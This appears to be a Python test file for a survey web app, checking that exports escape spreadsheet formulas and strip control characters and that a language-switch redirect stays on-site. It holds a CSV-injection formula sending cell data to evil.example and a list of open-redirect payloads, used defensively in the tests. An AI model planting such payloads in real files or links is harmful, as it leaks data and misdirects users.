"""Staff text in files and redirects: formulas escaped and control characters removed in
every spreadsheet, Word and PDF file; the language switch never leaves the site."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from survey.extensions import db
from survey.models import Campaign, CustomTheme
from tests.conftest import csrf_token_from

SAME_SITE = {"Origin": "http://heard.test"}
FORM = {
    "questionnaire": "cic-wellbeing-11-17",
    "audience": "care leavers",
    "opens_at": "2026-01-05T09:00",
    "closes_at": "2030-02-05T17:00",
    "cohort_size": "33",
    "anonymous_link": "y",
    "invitations": "0",
}
HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


def test_a_formula_in_a_campaign_title_is_escaped_in_the_audit_csv(staff_client):
    worker = staff_client("participation")
    token = csrf_token_from(worker.get("/staff/campaigns/new").text)
    made = worker.post(
        "/staff/campaigns/new",
        data={**FORM, "title": HOSTILE, "slug": "hostile", "csrf_token": token},
        headers=SAME_SITE,
    )
    assert made.status_code == 302, made.text[:2000]
    exported = staff_client("admin").get("/staff/admin/audit.csv").data.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert "'" + HOSTILE in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_a_control_character_typed_by_staff_is_removed(app, staff_client):
    worker = staff_client("participation")
    token = csrf_token_from(worker.get("/staff/campaigns/new").text)
    worker.post(
        "/staff/campaigns/new",
        data={**FORM, "title": "Care\x0b leavers\x00 2027", "slug": "vt", "csrf_token": token},
        headers=SAME_SITE,
    )
    with app.app_context():
        assert db.session.scalar(select(Campaign.title).where(Campaign.slug == "vt")) == (
            "Care leavers 2027"
        )


def test_control_characters_already_stored_do_not_break_the_files(
    app, staff_client, seeded_summary
):
    """A theme named before the fix, with a vertical tab in it, still exports."""
    with app.app_context():
        theme = db.session.scalar(select(CustomTheme))
        theme.name = "Pocket\x0b money"
        db.session.commit()
    reviewer = staff_client("qa_reviewer")
    for path in (
        "/staff/review/themes.xlsx",
        "/staff/review/report.docx",
        "/staff/review/report.pdf",
    ):
        response = reviewer.get(path)
        assert response.status_code == 200, path
    book = load_workbook(io.BytesIO(reviewer.get("/staff/review/themes.xlsx").data))
    names = [row[0] for row in book.active.iter_rows(values_only=True)]
    assert "Pocket money" in names


@pytest.fixture()
def seeded_summary(app, make_campaign):
    """A campaign with comments about a custom theme the QA group accepted."""
    from datetime import timedelta

    from survey.insights.services import store_insights
    from survey.models import Answer, Response, utcnow

    slug, _ = make_campaign("themes")
    with app.app_context():
        campaign = db.session.scalar(select(Campaign).where(Campaign.slug == slug))
        db.session.add(
            CustomTheme(theme_id="pocket-money", name="Pocket money", keywords=["pocket money"])
        )
        ids = []
        for n in range(6):
            response = Response(
                reference=f"HRD-PM{n:02d}-0000",
                campaign_id=campaign.id,
                questionnaire_id=campaign.questionnaire_id,
                questionnaire_version=campaign.questionnaire_version,
                started_at=utcnow() - timedelta(minutes=9),
                submitted_at=utcnow() - timedelta(minutes=1),
            )
            response.answers = [
                Answer(
                    question_id="worry-text",
                    answer_type="free_text",
                    value=f"My pocket money is late every week ({n})",
                )
            ]
            db.session.add(response)
            db.session.flush()
            ids.append(response.id)
        db.session.commit()
        store_insights(ids)
    return slug


@pytest.mark.parametrize(
    "target",
    [
        "/\t/evil.example",
        "/\n/evil.example",
        "//evil.example",
        "/\\evil.example",
        "https://evil.example",
    ],
)
def test_the_language_switch_never_leaves_the_site(client, target):
    token = csrf_token_from(client.get("/").text)
    response = client.post("/language", data={"lang": "pl", "next": target, "csrf_token": token})
    assert response.status_code == 302
    assert "evil" not in response.headers["Location"]
